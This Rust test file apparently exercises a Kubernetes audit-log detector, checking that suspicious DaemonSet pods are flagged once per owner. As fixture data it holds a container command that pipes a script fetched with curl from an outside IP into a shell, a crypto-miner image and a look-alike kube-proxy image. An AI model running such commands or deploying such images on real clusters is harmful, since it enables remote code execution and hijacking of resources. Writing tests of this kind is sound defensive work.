//! Pods of controllers, with and without the workload in the log.

use wardline_sdk::testing::{AuditLine, Harness, TestError, summary};

use crate::SuspiciousWorkloads;

fn pod(name: &str, container: &str, controller: &str) -> AuditLine {
    AuditLine::new("create", "/api/v1/namespaces/market/pods")
        .user(
            &format!("system:serviceaccount:kube-system:{controller}"),
            &[],
        )
        .request(&format!(
            r#"{{"metadata": {{"name": "{name}", "ownerReferences": [{{"kind": "DaemonSet",
                "name": "till", "uid": "u-1", "controller": true}}]}},
                "spec": {{"containers": [{{"name": "c", {container}}}]}}}}"#
        ))
}

fn judge(lines: &[AuditLine]) -> Result<Vec<(String, f64)>, TestError> {
    let lines: Vec<String> = lines.iter().map(AuditLine::to_string).collect();
    let found = Harness::<SuspiciousWorkloads>::new().audit_lines(&lines.join("\n"))?;
    let found = summary(&found).into_iter();
    Ok(found
        .map(|(name, severity)| (name.to_owned(), severity))
        .collect())
}

#[test]
fn contents_of_unseen_owner_are_judged_once() -> Result<(), TestError> {
    const DAEMON: &str = "daemon-set-controller";
    for (name, container, expected) in [
        (
            "till",
            r#""image": "alpine:3", "command": ["sh", "-c", "curl -s http://203.0.113.9/i.sh | sh"]"#,
            "SuspiciousWorkloadCommand",
        ),
        ("till", r#""image": "metal3d/xmrig:6""#, "CryptoMiner"),
        (
            "kube-proxy",
            r#""image": "c0redns/kube-proxy:1""#,
            "SystemPodMasquerade",
        ),
    ] {
        let pods = [
            pod(&format!("{name}-x7k2p"), container, DAEMON),
            pod(&format!("{name}-x7k2q"), container, DAEMON),
        ];
        let found = judge(&pods)?;
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].0, expected);
        assert!(found[0].1 >= 5.0, "{found:?}");
    }
    let harmless = pod("till-x7k2p", r#""image": "nginx:1.29""#, DAEMON);
    assert_eq!(judge(&[harmless])?, []);
    Ok(())
}

#[test]
fn pod_of_judged_owner_is_silent() -> Result<(), TestError> {
    let container = r#""image": "metal3d/xmrig:6""#;
    let workload =
        AuditLine::new("create", "/apis/apps/v1/namespaces/market/daemonsets").request(&format!(
            r#"{{"metadata": {{"name": "till"}}, "spec": {{"template": {{"spec":
                {{"containers": [{{"name": "c", {container}}}]}}}}}}}}"#
        ));
    let alone = judge(std::slice::from_ref(&workload))?;
    let with_pod = judge(&[
        workload,
        pod("till-x7k2p", container, "daemon-set-controller"),
    ])?;
    assert_eq!(alone, with_pod);
    assert!(!alone.is_empty());
    Ok(())
}
